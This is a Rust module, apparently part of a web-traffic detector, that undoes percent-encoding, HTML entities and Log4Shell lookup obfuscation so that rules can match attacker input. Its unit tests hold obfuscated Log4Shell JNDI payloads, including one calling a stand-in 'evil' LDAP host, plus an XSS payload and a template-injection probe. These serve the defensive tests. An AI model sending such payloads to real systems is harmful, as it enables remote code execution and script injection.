//! The decoded form of an attacker-controlled string, so that a rule written against plain text
//! also sees through percent-encoding (once or twice), HTML entities and Log4Shell lookup
//! obfuscation (`${lower:j}${::-n}d${upper:i}`, `${env:X:-j}`, nested).

/// Percent-decoding rounds: attackers double-encode to slip past one decoder.
const PERCENT_ROUNDS: usize = 2;

/// The longest lookup default taken as spelling characters rather than as a value.
const MAX_SPELLED: usize = 4;

fn hex_value(b: u8) -> Option<u8> {
    (b as char).to_digit(16).map(|d| d as u8)
}

fn percent_decode(s: &str) -> String {
    let bytes = s.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        match bytes[i] {
            b'%' if i + 2 < bytes.len() => {
                match (hex_value(bytes[i + 1]), hex_value(bytes[i + 2])) {
                    (Some(h), Some(l)) => {
                        out.push(h * 16 + l);
                        i += 3;
                    }
                    _ => {
                        out.push(b'%');
                        i += 1;
                    }
                }
            }
            b => {
                out.push(b);
                i += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

fn html_decode(s: &str) -> String {
    if !s.contains('&') {
        return s.to_string();
    }
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(at) = rest.find('&') {
        out.push_str(&rest[..at]);
        let tail = &rest[at..];
        // An entity is short: looking further would make a line of `&`s quadratic.
        let end = tail.as_bytes().iter().take(11).position(|&b| b == b';');
        let decoded = end.and_then(|e| {
            let entity = &tail[1..e];
            let ch = match entity {
                "lt" => Some('<'),
                "gt" => Some('>'),
                "amp" => Some('&'),
                "quot" => Some('"'),
                "apos" => Some('\''),
                e if e.starts_with("#x") || e.starts_with("#X") => {
                    u32::from_str_radix(&e[2..], 16).ok().and_then(char::from_u32)
                }
                e if e.starts_with('#') => e[1..].parse::<u32>().ok().and_then(char::from_u32),
                _ => None,
            };
            ch.map(|c| (c, e + 1))
        });
        match decoded {
            Some((c, len)) => {
                out.push(c);
                rest = &tail[len..];
            }
            None => {
                out.push('&');
                rest = &tail[1..];
            }
        }
    }
    out.push_str(rest);
    out
}

/// Resolves Log4j lookups that only spell characters: `${lower:x}`, `${upper:x}`, `${::-x}`,
/// `${anything:-x}` (a default), innermost first, so `${${lower:j}ndi:…}` becomes `${jndi:…}`.
fn log4j_deobfuscate(s: &str) -> String {
    let mut text = s.to_string();
    // Each pass resolves the innermost lookups; nesting deeper than this is not worth chasing.
    for _ in 0..8 {
        let mut changed = false;
        let mut out = String::with_capacity(text.len());
        let mut rest = text.as_str();
        while let Some(start) = rest.find("${") {
            let body_start = start + 2;
            let Some(close) = rest[body_start..].find('}') else { break };
            let body = &rest[body_start..body_start + close];
            if let Some(inner) = body.rfind("${") {
                // Not innermost: copy up to the innermost one before this `}` and go on from it.
                let inner = body_start + inner;
                out.push_str(&rest[..inner]);
                rest = &rest[inner..];
                continue;
            }
            let lower = body.to_ascii_lowercase();
            let replacement = if let Some(v) = lower.strip_prefix("lower:") {
                Some(v.to_string())
            } else if lower.starts_with("upper:") {
                Some(body[6..].to_ascii_uppercase())
            } else {
                // A default that spells a few characters (`${::-j}`, `${env:NaN:-j}`) is
                // obfuscation; a lookup with a default (`${jndi:ldap://x/a:-b}`) is still the
                // lookup Log4j performs, and must stay visible.
                body.find(":-")
                    .filter(|&i| body.len() - i - 2 <= MAX_SPELLED && !lower.starts_with("jndi"))
                    .map(|i| body[i + 2..].to_string())
            };
            out.push_str(&rest[..start]);
            match replacement {
                Some(r) => {
                    out.push_str(&r);
                    changed = true;
                }
                None => out.push_str(&rest[start..body_start + close + 1]),
            }
            rest = &rest[body_start + close + 1..];
        }
        out.push_str(rest);
        text = out;
        if !changed {
            break;
        }
    }
    text
}

/// The decoded form, or `None` when there is nothing to decode.
pub fn decode(s: &str) -> Option<String> {
    // `+` is a space only in form-encoded text, which has no literal spaces (a whole log line,
    // `+0000` in its time, is not), and only as written: a `+` from `%2B` stays a plus.
    let form_encoded = s.contains('+') && !s.contains(' ');
    if !form_encoded && !s.contains(['%', '&', '$']) {
        return None;
    }
    let mut text = if form_encoded { s.replace('+', " ") } else { s.to_string() };
    for _ in 0..PERCENT_ROUNDS {
        if !text.contains('%') {
            break;
        }
        text = percent_decode(&text);
    }
    let text = log4j_deobfuscate(&html_decode(&text));
    (text != s).then_some(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn decodes_percent_twice_html_and_log4shell_obfuscation() {
        assert_eq!(decode("/a%3Fb%253Cscript%253E").as_deref(), Some("/a?b<script>"));
        assert_eq!(
            decode("x=&lt;img src=x onerror=alert(1)&gt;").as_deref(),
            Some("x=<img src=x onerror=alert(1)>")
        );
        assert_eq!(
            decode("${${lower:j}${::-n}d${upper:i}:ldap://x/a}").as_deref(),
            Some("${jndI:ldap://x/a}")
        );
        assert_eq!(
            decode("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x}").as_deref(),
            Some("${jndi:ldap://x}")
        );
        assert_eq!(decode("%24%7Bjndi%3Aldap%3A%2F%2Fx%7D").as_deref(), Some("${jndi:ldap://x}"));
        assert_eq!(decode("/plain/path"), None);
        // A lookup with a default is the lookup, not its default.
        assert_eq!(
            decode("${${lower:j}ndi:ldap://evil/a:-x}").as_deref(),
            Some("${jndi:ldap://evil/a:-x}")
        );
        // `+` is a space as written in a query, a plus when it came from %2B.
        assert_eq!(decode("q=a+b%2Bc").as_deref(), Some("q=a b+c"));
        assert_eq!(decode("x=%27%2b%7b233*233%7d").as_deref(), Some("x='+{233*233}"));
        assert_eq!(decode("GET /a HTTP/1.1 [03/Jun/2024:10:00:00 +0000]"), None);
        // Hostile nesting and ampersands stay linear.
        let nested = "${".repeat(200_000);
        assert_eq!(decode(&nested), None);
        assert_eq!(decode(&"&".repeat(1_000_000)), None);
        assert_eq!(decode("100%"), None, "a stray % changes nothing");
        assert_eq!(decode("%zz%4"), None);
    }
}
